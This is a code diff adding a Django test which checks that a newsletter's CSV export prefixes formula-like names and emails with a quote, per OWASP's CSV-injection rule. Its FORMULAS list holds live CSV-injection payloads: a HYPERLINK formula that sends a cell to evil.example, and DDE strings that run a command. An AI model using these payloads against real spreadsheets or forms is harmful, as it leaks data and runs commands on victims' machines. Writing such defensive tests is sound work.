@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+
 import pytest
 from django.urls import reverse
 
@@ -203,3 +206,41 @@ def test_archives_are_public_or_only_for_the_owner(client, alice, bob, alice_lis
     assert client.get(item).status_code == 404
     client.force_login(alice)
     assert client.get(item).status_code == 200
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A2,"Click for your prize")',
+    "+SUM(1+1)*cmd|' /C calc'!A0",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+]
+
+
+def test_the_export_neutralises_formulas_a_stranger_typed_on_the_public_form(
+    client, alice, alice_list, mail_rate, settings
+):
+    """OWASP's CSV-injection rule: a cell that a spreadsheet would read as a formula (it
+    begins with =, +, -, @, a tab or a carriage return) is exported with a leading quote."""
+    settings.EMAIL_BACKEND = "django.core.mail.backends.locmem.EmailBackend"
+    stranger = client.__class__()
+    signups = [(f"{n}-prize@example.net", name) for n, name in enumerate(FORMULAS)]
+    # The address itself may begin with a formula character too: "=" and "+" are dot-atom.
+    signups.append(("=1+2@example.net", "Plain Name"))
+    for email, name in signups:
+        response = stranger.post(
+            reverse("newsletters:signup", args=[alice_list.slug]),
+            {"email": email, "name": name, "website": ""},
+            REMOTE_ADDR="192.0.2.77",
+        )
+        assert response.status_code == 200, response.content.decode()[:500]
+    client.force_login(alice)
+    response = client.get(reverse("newsletters:list_export", args=[alice_list.pk]))
+    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
+    by_email = {row["email"].lstrip("'"): row for row in rows}
+    for email, name in signups:
+        row = by_email[email]
+        assert row["name"] == (f"'{name}" if name[0] in "=+-@" else name)
+        assert row["email"] == (f"'{email}" if email[0] in "=+-@" else email)
+    for row in rows:
+        for value in row.values():
+            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), row
